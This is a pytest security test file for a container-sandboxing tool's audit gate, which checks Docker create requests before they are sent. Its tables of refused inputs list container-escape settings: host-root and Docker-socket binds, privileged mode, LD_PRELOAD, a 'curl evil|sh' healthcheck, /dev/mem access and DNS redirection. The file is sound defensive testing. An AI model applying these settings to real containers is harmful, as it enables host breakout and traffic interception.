"""The last gate reads the finished request, and believes nobody who made it."""

import ast
import copy
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import berth
from berth.engine.docker.audit import audited, violations
from berth.engine.docker.render import render
from berth.engine.docker.request_terms import Terms, helper_terms, terms_of
from berth.engine.docker.volumes import _helper
from berth.engine.launcher import launch_command
from berth.errors import BerthError
from berth.planning.container_options import ContainerOptions, Network, NetworkOptions
from berth.planning.plan import ContainerPlan
from tests.planning.plans import Case, profile
from tests.security.pipeline import Start

PLAN = Start({"workspace": profile(volumes=["npm"])}, {}).plan().container
BODY = render(PLAN, launch_command())
TERMS = terms_of(PLAN)
BIND: dict[str, Any] = {"Type": "bind", "Source": "/home/ada/project", "Target": "/workspace", "ReadOnly": False}

OUTER: dict[str, Any] = {
    "Env": ["LD_PRELOAD=/x.so"],
    "Volumes": {"/x": {}},
    "OnBuild": ["RUN x"],
    "MacAddress": "02:42:ac:11:00:02",
    "ArgsEscaped": True,
    "NetworkDisabled": False,
    "AttachStdout": True,
    "Shell": ["/bin/sh"],
    "Image": "evil:1",
    "User": "0:0",
    "WorkingDir": "../x",
    "Hostname": "a b",
    "Domainname": "-x",
    "Labels": ["dev.berth.session=x"],
    "Entrypoint": ["/workspace/evil"],
    "Cmd": "sh -c x",
    "OpenStdin": False,
    "StdinOnce": True,
    "Tty": True,
    "StopSignal": "rm -rf",
    "StopTimeout": "1",
    "Healthcheck": {"Test": ["CMD-SHELL", "curl evil|sh"]},
    "ExposedPorts": {"80": {"HostPort": "80"}},
    "NetworkingConfig": {"EndpointsConfig": {"other": {}}},
}
"""Values of the keys beside ``HostConfig`` that no agent's request has."""

HOST: dict[str, Any] = {
    "Binds": ["/:/host"],
    "VolumesFrom": ["victim"],
    "VolumeDriver": "sshfs",
    "PidMode": "host",
    "UTSMode": "host",
    "IpcMode": "host",
    "CgroupnsMode": "host",
    "UsernsMode": "host",
    "NetworkMode": "host",
    "Privileged": True,
    "CapAdd": ["CAP_SYS_ADMIN"],
    "CapDrop": [],
    "Capabilities": ["CAP_SYS_ADMIN"],
    "SecurityOpt": ["seccomp=unconfined"],
    "MaskedPaths": [],
    "ReadonlyPaths": [],
    "Links": ["victim:db"],
    "Annotations": {"io.katacontainers.x": "y"},
    "AutoRemove": True,
    "ContainerIDFile": "/home/ada/.bashrc",
    "RestartPolicy": {"Name": "always"},
    "LogConfig": {"Type": "syslog", "Config": {"syslog-address": "udp://evil:514"}},
    "Devices": [{"PathOnHost": "/dev/mem", "PathInContainer": "/dev/mem", "CgroupPermissions": "rwm"}],
    "DeviceCgroupRules": ["a *:* rwm"],
    "DeviceRequests": [{"Count": -1, "Capabilities": [["gpu"]]}],
    "GroupAdd": ["docker"],
    "Sysctls": {"net.ipv4.ip_forward": "1"},
    "CgroupParent": "/",
    "Runtime": "evil",
    "PortBindings": {"22/tcp": [{"HostPort": "22"}]},
    "PublishAllPorts": True,
    "Dns": ["6.6.6.6"],
    "DnsSearch": ["evil"],
    "DnsOptions": ["x"],
    "ExtraHosts": ["api.anthropic.com:6.6.6.6"],
    "StorageOpt": {"size": "900g"},
    "OomKillDisable": True,
    "OomScoreAdj": -1000,
    "Memory": 0,
    "MemorySwap": -1,
    "MemorySwappiness": 101,
    "PidsLimit": -1,
    "NanoCpus": 0,
    "CpuRealtimeRuntime": 950000,
    "CpusetCpus": "all",
    "Ulimits": [{"Name": "core", "Soft": -1, "Hard": -1}, {"Name": "nofile", "Soft": 1, "Hard": 1}],
    "Isolation": "process",
    "ReadonlyRootfs": False,
    "Init": "yes",
    "Cgroup": "container:x",
    "ShmSize": -1,
    "Tmpfs": {"/x": "suid"},
    "KernelMemoryTCP": 1,
    "ConsoleSize": [0, 0],
}
"""Values of the keys in ``HostConfig``."""

MOUNTS: dict[str, Any] = {
    "another": {**BIND, "Target": "/x"},
    "another source": {**BIND, "Source": "/home/ada"},
    "the engine's socket": {**BIND, "Source": "/var/run/docker.sock"},
    "the whole machine": {**BIND, "Source": "/"},
    "sockets": {**BIND, "Source": "/run"},
    "the kernel": {**BIND, "Source": "/proc/1"},
    "a climb": {**BIND, "Source": "/home/ada/project/../.."},
    "propagation": {**BIND, "BindOptions": {"Propagation": "rshared"}},
    "consistency": {**BIND, "Consistency": "delegated"},
    "a smuggled bind": {
        "Type": "volume",
        "Source": "v",
        "Target": "/x",
        "VolumeOptions": {"DriverConfig": {"Name": "local", "Options": {"o": "bind", "device": "/"}}},
    },
    "a volume without a name": {"Type": "volume", "Target": "/x"},
    "a tmpfs as a mount": {"Type": "tmpfs", "Target": "/x"},
    "a cluster": {"Type": "cluster", "Source": "v", "Target": "/x"},
    "an image": {"Type": "image", "Source": "v", "Target": "/x"},
    "a pipe": {"Type": "npipe", "Source": "//./pipe/docker_engine", "Target": "/x"},
    "a text": "/:/host",
    "in lower case": {"type": "bind", "source": "/", "target": "/x"},
    "over the kernel": {**BIND, "Target": "/proc/sys"},
    "writable where it was not": {**BIND, "ReadOnly": "false"},
}


def changed(key: str, value: object) -> dict[str, Any]:
    body = copy.deepcopy(BODY)
    (body if key in OUTER else body["HostConfig"])[key] = value
    return body


def test_an_ordinary_request_passes_and_has_a_digest_of_what_is_sent() -> None:
    first = audited(BODY, TERMS)
    assert first.body == BODY
    assert first.digest != audited(changed("ShmSize", 1), TERMS).digest
    assert len(first.digest) == 64


@pytest.mark.parametrize("key", [*OUTER, *HOST])
def test_no_key_gets_past_with_a_value_that_loosens(key: str) -> None:
    with pytest.raises(BerthError) as caught:
        audited(changed(key, OUTER.get(key, HOST.get(key))), TERMS)
    assert caught.value.kind == "request-refused"
    assert f"{key} is " in caught.value.message


@pytest.mark.parametrize("name", MOUNTS)
def test_no_mount_gets_past_that_the_plan_does_not_have(name: str) -> None:
    assert violations(changed("Mounts", [MOUNTS[name]]), TERMS) == ("HostConfig.Mounts is not what may be asked for",)


def test_a_mount_that_should_be_read_only_is_not_made_writable() -> None:
    mounts = [{**mount, "ReadOnly": False} for mount in BODY["HostConfig"]["Mounts"]]
    assert any(mount["ReadOnly"] for mount in BODY["HostConfig"]["Mounts"])
    assert violations(changed("Mounts", mounts), TERMS)


@pytest.mark.parametrize("key", ["CapDrop", "SecurityOpt", "Privileged", "Memory", "PidsLimit", "LogConfig", "Mounts"])
def test_a_wall_that_is_left_out_is_missed(key: str) -> None:
    body = copy.deepcopy(BODY)
    del body["HostConfig"][key]
    assert violations(body, TERMS) == (f"HostConfig.{key} is missing",)


@pytest.mark.parametrize("key", ["User", "Entrypoint", "Cmd", "Healthcheck", "Image", "Tty"])
def test_what_an_image_would_decide_is_missed(key: str) -> None:
    body = copy.deepcopy(BODY)
    del body[key]
    assert violations(body, TERMS) == (f"{key} is missing",)


def test_a_request_without_its_host_configuration_is_none() -> None:
    assert violations({**BODY, "HostConfig": None}, TERMS) == ("HostConfig is missing",)


@pytest.mark.parametrize("flag", ["--cap-add=KILL", "--device=/dev/null", "--runtime=x", "-p=1:1", "--dns=1.1.1.1"])
def test_the_users_word_loosens_what_it_names_and_nothing_else(flag: str) -> None:
    asked = Case({"user": profile(dockerArgs=[flag])}, network="open").plan().container
    body = render(asked, launch_command())
    assert violations(body, terms_of(asked)) == ()
    unasked = Case({"workspace": profile(volumes=["npm"])}, network="open").plan().container
    assert len(violations(body, terms_of(unasked))) in (1, 2)
    repository = Case({"workspace": profile(dockerArgs=[flag])}, network="open").plan().container
    assert violations(render(repository, launch_command()), terms_of(repository))


def test_a_sentence_has_no_value_in_it() -> None:
    with pytest.raises(BerthError) as caught:
        audited({**BODY, "Env": ["KEY=s3cret"], "s3cret\n": 1}, TERMS)
    assert "s3cret" not in str(caught.value)


def test_a_helper_gets_no_network_and_no_session() -> None:
    volumes = [mount for mount in PLAN.mounts if mount.type == "volume"]
    terms, body = helper_terms(PLAN, volumes), _helper(PLAN, volumes, command=launch_command())
    assert violations(body, terms) == ()
    loosened: list[dict[str, Any]] = [
        {"NetworkMode": "bridge"},
        {"CapDrop": []},
        {"Privileged": True},
        {"Mounts": [BIND]},
    ]
    for host in loosened:
        assert violations({**body, "HostConfig": {**body["HostConfig"], **host}}, terms)
    assert violations({**body, "Labels": {"dev.berth.session": "x"}}, terms)


@pytest.mark.parametrize(
    ("joins", "mode", "passes"),
    [
        ("", "container:victim", False),
        ("holder", "container:victim", False),
        ("holder", "container:holder", True),
        ("holder", "none", True),
    ],
)
def test_a_network_is_joined_only_where_that_was_decided(joins: str, mode: str, passes: bool) -> None:  # noqa: FBT001 - a case of a table
    terms = Terms("agent", PLAN.image, TERMS.user, TERMS.memory, TERMS.pids, TERMS.mounts, joins=joins)
    assert (not violations(changed("NetworkMode", mode), terms)) is passes


def berths_own(**labels: str) -> ContainerPlan:
    """A container between sessions and the network, as a plan."""
    return replace(PLAN, labels={"dev.berth": "1", **{f"dev.berth.{name}": value for name, value in labels.items()}})


def on(plan: ContainerPlan, network: str, *dns: str) -> ContainerPlan:
    return replace(plan, options=ContainerOptions(network=NetworkOptions(network=Network(network), dns=dns)))


def test_a_holder_has_no_network_and_a_proxy_has_one() -> None:
    holder, proxy = on(berths_own(egress="holder"), "none", "127.0.0.1"), berths_own(egress="proxy")
    for plan in (holder, proxy, on(proxy, "own")):
        assert violations(render(plan, ("python3", "-I", "x")), terms_of(plan)) == ()
    for plan in (on(holder, "bridge"), on(holder, "none", "6.6.6.6"), on(berths_own(), "none", "127.0.0.1")):
        assert violations(render(plan, launch_command()), terms_of(plan))
    assert violations(render(PLAN, ("python3", "-I", "x")), TERMS)


def test_what_prepares_the_volume_of_a_proxy_begins_with_the_proxys_program() -> None:
    proxy = berths_own(egress="proxy")
    program = ("python3", "-I", "x")
    for plan, passes in ((proxy, True), (PLAN, False)):
        body = _helper(plan, [], command=program)
        assert (violations(body, helper_terms(plan, [])) == ()) is passes
        assert violations(
            {**body, "HostConfig": {**body["HostConfig"], "NetworkMode": "bridge"}}, helper_terms(plan, [])
        )


def test_only_a_session_with_a_lane_joins_its_holder() -> None:
    lane, none = on(berths_own(lane="l1"), "container:holder"), on(berths_own(), "container:victim")
    assert violations(render(lane, launch_command()), terms_of(lane)) == ()
    assert violations(render(none, launch_command()), terms_of(none))
    assert violations(render(lane, launch_command()), TERMS)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.floats(allow_nan=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)


@given(key=st.sampled_from([*OUTER, *HOST, "Cmd", "Anything"]), value=JSON)
def test_any_value_of_any_key_passes_or_is_told(key: str, value: object) -> None:
    for fault in violations(changed(key, value), TERMS):
        assert fault.isprintable()
    if key in ("Privileged", "PidMode", "UTSMode", "Binds", "VolumesFrom", "Env", "Anything"):
        assert bool(violations(changed(key, value), TERMS)) is (value is not False or key != "Privileged")


def test_there_is_no_way_to_create_a_container_round_the_gate() -> None:
    server = Path(berth.__file__).parent
    calls = [
        (path.name, node.attr)
        for path in server.rglob("*.py")
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Attribute) and node.attr in ("create_container", "create_container_from_config")
    ]
    assert calls == [("volumes.py", "create_container_from_config")]
    texts = {path.name for path in server.rglob("*.py") if '"/containers/create' in path.read_text()}
    assert texts == set()


def calls_of(name: str) -> dict[tuple[str, str], str]:
    """The functions that call something of this name, by file and name, with their source."""
    server = Path(berth.__file__).parent
    found: dict[tuple[str, str], str] = {}
    for path in server.rglob("*.py"):
        if f"{name}(" not in (text := path.read_text()):
            continue
        functions = [
            node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef)
        ]
        for function in functions:
            called = [ast.unparse(node.func) for node in ast.walk(function) if isinstance(node, ast.Call)]
            if any(each.rpartition(".")[2] == name for each in called):
                found[path.relative_to(server).as_posix(), function.name] = ast.unparse(function)
    return found


def test_every_request_for_a_container_is_rendered_and_audited() -> None:
    made = calls_of("create_container")
    assert set(made) - {("engine/docker/engine.py", "make")} == {
        ("engine/docker/engine.py", "create"),  # has make() in it
        ("engine/docker/volumes.py", "prepare"),
    }
    for source in made.values():
        assert "create_container(client, request" in source
        assert "request = audited(" in source
    assert set(calls_of("AuditedRequest")) == {("engine/docker/audit.py", "audited")}


def test_whoever_wants_a_container_asks_the_engine_for_one_of_a_plan() -> None:
    """Sessions, spares, logins, holders and the proxy: all come by the same door, which the last test looks at."""
    wanting = {place for place, source in calls_of("create").items() if re.search(r"create\(.*command=", source)}
    assert wanting == {
        ("sessions/new_container.py", "_create"),
        ("sessions/housing.py", "_provide_process"),
        ("sessions/egress/proxy_container.py", "_create"),
        ("sessions/egress/ways.py", "_made"),
        ("host/login_room.py", "login_room"),
        ("host/spare_maker.py", "bring_up"),
    }
